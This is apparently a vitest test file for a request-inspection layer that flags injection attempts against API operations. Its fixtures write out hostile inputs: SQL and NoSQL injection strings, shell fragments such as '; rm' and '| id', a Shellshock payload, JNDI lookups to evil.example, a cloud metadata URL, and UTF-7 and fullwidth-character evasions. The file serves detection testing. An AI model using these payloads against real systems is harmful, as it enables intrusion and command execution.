import { describe, expect, test } from 'vitest';
import { operationWith, type Sent } from './testing/operation-under-test.ts';

const text = { type: 'string' };
const ATTACK = "x' or '7'='7";
const written = encodeURIComponent;
const FORM = 'application/x-www-form-urlencoded';
const OBSERVED = 'modes: { body: observe }';

describe('a text that was in a request before is looked at', () => {
  const header = { headers: ['X-Reason', ATTACK] };

  test('where it came behind as many findings as a request is told of', () => {
    const found = operationWith({});
    const query = Array.from({ length: 20 }, (_, i) => `q${i}=${written(ATTACK)}`).join('&');
    expect(found({ ...header, query })).toBe('sql');
    expect(found(header)).toBe('sql');
  });

  test('where it was excepted in another place', () => {
    const settings = 'threats: { exceptions: [{ field: header:X-Note, categories: [sql] }] }';
    const found = operationWith({}, { settings });
    expect(found({ headers: ['X-Note', ATTACK] })).toBe('null');
    expect(found(header)).toBe('sql');
  });
});

describe('a parameter with the name of a credential that the operation does not take is looked at', () => {
  test.each(['query', 'cookie'])('in the %s', (where) => {
    const components = { securitySchemes: { key: { type: 'apiKey', in: where, name: 'key' } } };
    const sent: Sent = where === 'query' ? { query: `key=${written(ATTACK)}` } : { cookie: `key=${written(ATTACK)}` };
    expect(operationWith({ parameters: [{ name: 'key', in: where, schema: text }] }, { components })(sent)).toBe('sql');
    // Does not go upstream.
    expect(operationWith({}, { components })(sent)).toBe('null');
  });

  test.each(['off', 'observe'])('also where authentication is %s, and it goes upstream', (mode) => {
    for (const where of ['query', 'cookie', 'header']) {
      const components = { securitySchemes: { key: { type: 'apiKey', in: where, name: 'key' } } };
      const sent: Sent = where === 'header' ? { headers: ['Key', ATTACK] } : { [where]: `key=${written(ATTACK)}` };
      const settings = `modes: { authentication: ${mode} }`;
      const found = operationWith({ security: [{ key: [] }] }, { components, settings });
      expect(found(sent)).toBe('sql');
      expect(operationWith({ security: [{ key: [] }] }, { components })(sent)).toBe('null');
      const value =
        where === 'header' ? { headers: ['Key', 'sk_live_9f8a+/c=='] } : { [where]: 'key=sk_live_9f8a%2B/c==' };
      expect(found(value)).toBe('null');
    }
  });

  test.each(['%u006bey', '%C1%ABey'])('as is %s, which is the name to some decoders and goes upstream', (name) => {
    const components = { securitySchemes: { key: { type: 'apiKey', in: 'query', name: 'key' } } };
    const found = operationWith({}, { components });
    expect(found({ query: `${name}=${written(ATTACK)}` })).toBe('sql');
    expect(found({ query: `k%65y=${written(ATTACK)}` })).toBe('null');
  });
});

describe('names of cookies that nobody declares are looked at', () => {
  test.each(['<script>f()</script>=1', '<script>f()</script>'])('%s', (cookie) => {
    expect(operationWith({})({ cookie })).toBe('markup');
    expect(operationWith({}, { undeclared: 'strip' })({ cookie })).toBe('null');
  });
});

test('members of an object in the query are confined by their schemas, as parameters are', () => {
  const schema = { type: 'object', properties: { tie: { enum: [ATTACK] }, note: text } };
  const found = operationWith({ parameters: [{ name: 'p', in: 'query', schema }] });
  expect(found({ query: `tie=${written(ATTACK)}` })).toBe('null');
  expect(found({ query: `note=${written(ATTACK)}` })).toBe('sql');
});

// Each does nothing in the text of JSON around it, where a quote stands before it.
describe.each(['1 or 1 like 1', "' --", '; rm'])('within JSON %s is looked at', (attack) => {
  const schema = { type: 'object', properties: { note: text } };
  const json = JSON.stringify({ note: attack });
  const content = { 'application/json': { schema } };
  const inContent = (where: string, path = '/'): ((sent: Sent) => string) =>
    operationWith({ parameters: [{ name: 'p', in: where, required: true, content }] }, { path });
  const bodyOf = (range: string): ((sent: Sent) => string) =>
    operationWith({ requestBody: { content: { [range]: { schema: { type: 'object', properties: { o: schema } } } } } });

  test('in parameters', () => {
    expect(inContent('query')({ query: `p=${written(json)}` })).not.toBe('null');
    expect(inContent('path', '/{p}')({ path: written(json) })).not.toBe('null');
    expect(inContent('header')({ headers: ['p', json] })).not.toBe('null');
    expect(inContent('cookie')({ cookie: `p=${written(json)}` })).not.toBe('null');
    const whole = { name: 'p', in: 'querystring', content };
    expect(operationWith({ parameters: [whole] }, { openapi: '3.2.0' })({ query: written(json) })).not.toBe('null');
  });

  test('in what nobody declares, time after time', () => {
    const found = operationWith({});
    for (const sent of [{ query: `p=${written(json)}` }, { cookie: `p=${written(json)}` }, { headers: ['X-P', json] }])
      for (let i = 0; i < 2; i += 1) expect(found(sent)).not.toBe('null');
  });

  test('in fields and parts', () => {
    expect(bodyOf(FORM)({ type: FORM, body: `o=${written(json)}` })).not.toBe('null');
    const body = `--b\r\nContent-Disposition: form-data; name="o"\r\n\r\n${json}\r\n--b--\r\n`;
    expect(bodyOf('multipart/form-data')({ type: 'multipart/form-data; boundary=b', body })).not.toBe('null');
  });
});

describe('a part of a form is a text, whatever it states', () => {
  const part = (type: string, content: string): Sent => ({
    type: 'multipart/form-data; boundary=b',
    body: `--b\r\nContent-Disposition: form-data; name="o"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--b--\r\n`,
  });
  const parts = (more: object = {}, settings = ''): ((sent: Sent) => string) =>
    operationWith(
      { requestBody: { content: { 'multipart/form-data': { schema: { properties: { o: text } }, ...more } } } },
      { settings },
    );

  test.each(['text/xml', 'application/xml', 'image/svg+xml'])(
    '%s, in which each text is looked at by itself',
    (type) => {
      expect(parts()(part(type, "x' or 7<8"))).toBe('sql');
      expect(parts()(part(type, '<a>a note</a>'))).toBe('null');
    },
  );

  test('unless the document says that it is XML', () => {
    const encoding = { o: { contentType: 'application/xml' } };
    expect(parts({ encoding })(part('application/xml', '<a><script>a note</script></a>'))).toBe('null');
    expect(parts({ encoding })(part('application/xml', `<a>${ATTACK}</a>`))).toBe('sql');
  });

  test('where its file name is empty, and no file that it states', () => {
    const named = (name: string, type = 'application/octet-stream'): Sent => ({
      type: 'multipart/form-data; boundary=b',
      body: `--b\r\nContent-Disposition: form-data; name="o"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${ATTACK}\r\n--b--\r\n`,
    });
    expect(parts()(named(''))).toBe('sql');
    expect(parts()(named('', 'image/png'))).toBe('sql');
    expect(parts()(named('a.sql'))).toBe('null');
  });

  test.each(['application/json', 'multipart/mixed; boundary=c', 'multipart/mixed'])(
    '%s, where nothing holds it to that',
    (type) => {
      expect(parts({}, OBSERVED)(part(type, ATTACK))).toBe('sql');
    },
  );
});

test('multiparts within each other are looked through only so far, and what is deeper is a text', () => {
  const nested = (levels: number): string => {
    const named = (i: number): string => `b${String(i).padStart(5, '0')}`;
    const head = (i: number): string => `--${named(i)}\r\nContent-Disposition: form-data; name="o"\r\n`;
    const opened = Array.from(
      { length: levels },
      (_, i) => `${head(i)}Content-Type: multipart/mixed; boundary=${named(i + 1)}\r\n\r\n`,
    );
    const closed = Array.from({ length: levels + 1 }, (_, i) => `\r\n--${named(levels - i)}--\r\n`);
    return `${opened.join('')}${head(levels)}\r\n${ATTACK}${closed.join('')}`;
  };
  for (const type of ['multipart/form-data', 'multipart/mixed']) {
    const found = operationWith({ requestBody: { content: { [type]: {} } } }, { settings: OBSERVED });
    for (const levels of [1, 3, 10, 5_000])
      expect(found({ type: `${type}; boundary=b00000`, body: nested(levels) })).toBe('sql');
  }
});

test('a charset in which ASCII is not ASCII hides nothing where nothing refuses it: in fields and in the query', () => {
  const content = { 'multipart/form-data': {}, 'application/octet-stream': {} };
  const found = operationWith({ requestBody: { content } }, { settings: OBSERVED });
  const body = '--b\r\nContent-Disposition: form-data; name="o"\r\n\r\nx+ACc- or +ACc-7+ACc-=+ACc-7\r\n--b--\r\n';
  expect(found({ type: 'multipart/form-data; boundary=b; charset=utf-7', body })).toBe('xml');
  expect(found({ type: 'text/plain; charset=utf-7', query: 'q=x%2BACc- or %2BACc-7' })).toBe('xml');
  expect(found({ type: 'multipart/form-data; boundary=b; charset=iso-8859-1', body })).toBe('null');
  const typed = body.replace('\r\n\r\n', '\r\nContent-Type: image/png; charset=utf-7\r\n\r\n');
  expect(found({ type: 'multipart/form-data; boundary=b', body: typed })).toBe('xml');
});

test('a field that names the charset of the others is held to one in which ASCII is ASCII (RFC 7578, section 4.6)', () => {
  const found = operationWith({ requestBody: { content: { 'multipart/form-data': {} } } });
  const sent = (charset: string): Sent => ({
    type: 'multipart/form-data; boundary=b',
    body: `--b\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n${charset}\r\n--b--\r\n`,
  });
  for (const charset of ['utf-7', 'iso-2022-jp', 'ibm037']) expect(found(sent(charset)), charset).toBe('xml');
  for (const charset of ['utf-8', 'UTF-8', 'iso-8859-1', 'windows-1252', ''])
    expect(found(sent(charset)), charset).toBe('null');
});

describe('a name that nobody declares is looked at alone as well, and so is each between its brackets', () => {
  const METADATA = 'http://169.254.169.254/';
  const body = { content: { 'application/json': { schema: {} }, [FORM]: { schema: { type: 'object' } } } };
  const found = operationWith({ requestBody: body });

  test.each([METADATA, '| id', '`id`'])('%s', (name) => {
    expect(found({ query: `${written(name)}=1` })).not.toBe('null');
    expect(found({ query: `filter[${written(name)}]=1` })).not.toBe('null');
    expect(found({ type: FORM, body: `filter[a][${written(name)}]=1` })).not.toBe('null');
    expect(found({ type: 'application/json', body: JSON.stringify({ a: { [name]: 1 } }) })).not.toBe('null');
  });

  test.each(['id', 'filter[id]', 'or', 'page[size]', 'a.b', 'tags[]', '$filter', 'filter[name][contains]', '@type'])(
    '%s is a name',
    (name) => {
      expect(found({ query: `${written(name)}=1` })).toBe('null');
      expect(found({ type: FORM, body: `${name}=1` })).toBe('null');
      expect(found({ type: 'application/json', body: JSON.stringify({ [name]: 1 }) })).toBe('null');
    },
  );
});

describe('an operator of a database is one between whatever brackets its name stands', () => {
  const json = 'application/json';
  const open = { schema: { type: 'object' } };
  const body = { content: { [json]: open, [FORM]: open, 'multipart/form-data': open } };
  const found = operationWith({ requestBody: body });
  const part = (name: string): Sent => ({
    type: 'multipart/form-data; boundary=b',
    body: `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n1\r\n--b--\r\n`,
  });

  test.each(['user[$ne]', 'user[$nin][]', 'user[$in][0]', '$or[0][a]', 'a[$not][$in][]', 'user.$gt', 'a[$like]'])(
    '%s',
    (name) => {
      expect(found({ query: `${written(name)}=1` })).toBe('nosql');
      expect(found({ type: FORM, body: `${name}=1` })).toBe('nosql');
      expect(found(part(name))).toBe('nosql');
    },
  );

  test.each(['user[name]', 'tags[]', 'page[size]', 'in[all]', '$filter', 'a[0][type]', 'items[0][$id]'])(
    '%s is none',
    (name) => {
      expect(found({ query: `${written(name)}=1` })).toBe('null');
      expect(found(part(name))).toBe('null');
    },
  );

  test.each(['$like', '$notBetween', '$nearSphere', '$nin'])('%s as a member', (name) => {
    expect(found({ type: json, body: JSON.stringify({ user: { [name]: [1] } }) })).toBe('nosql');
  });
});

describe('bytes beyond ASCII in fields are read as UTF-8 as well', () => {
  const latin = (sent: string): string => Buffer.from(sent).toString('latin1');
  const found = operationWith({ parameters: [{ name: 'X-Note', in: 'header', schema: text }] });

  test.each([
    '\uff1cscript\uff1ef()\uff1c/script\uff1e',
    '\uff04\uff5bjndi:ldap://x\uff5d',
    '\u{1d422}\u{1d41d}\uff07 or 7=7--',
  ])('%s', (attack) => {
    for (let times = 0; times < 2; times += 1)
      for (const name of ['User-Agent', 'X-Note']) expect(found({ headers: [name, latin(attack)] })).not.toBe('null');
    expect(found({ cookie: `a=${latin(attack)}` })).not.toBe('null');
    expect(found({ cookie: `a="${latin(attack)}"` })).not.toBe('null');
  });

  test.each(['Caf\u00e9 M\u00fcller', '\u5317\u4eac', '\u201cnote\u201d'])('and nothing is found in %s', (honest) => {
    for (const sent of [honest, latin(honest)].filter((one) => /^[\0-\xff]*$/.test(one))) {
      expect(found({ headers: ['User-Agent', sent] })).toBe('null');
      expect(found({ cookie: `a=${sent}` })).toBe('null');
    }
  });
});

describe('a field of HTTP itself is looked at for what runs wherever it is written', () => {
  const found = operationWith({});

  test.each(['Accept', 'Accept-Language', 'Origin', 'If-None-Match', 'Sec-CH-UA', 'Authorization', 'Via'])(
    '%s',
    (name) => {
      expect(found({ headers: [name, '${jndi:ldap://evil.example/a}'] })).toBe('lookup');
      expect(found({ headers: [name, '${${lower:j}ndi:dns://x}'] })).toBe('lookup');
      expect(found({ headers: [name, '() { :; }; /bin/id'] })).toBe('command');
    },
  );

  test.each([
    ['Accept', 'text/html, */*;q=0.8, application/json;profile="a{b}"'],
    ['If-None-Match', 'W/"{0A1B2C3D-0000-4000-8000-123456789ABC},2"'],
    ['Sec-CH-UA', '"Not A(Brand";v="99", "Chromium";v="140"'],
  ])('and nothing is found in %s: %s', (name, value) => expect(found({ headers: [name, value] })).toBe('null'));
});
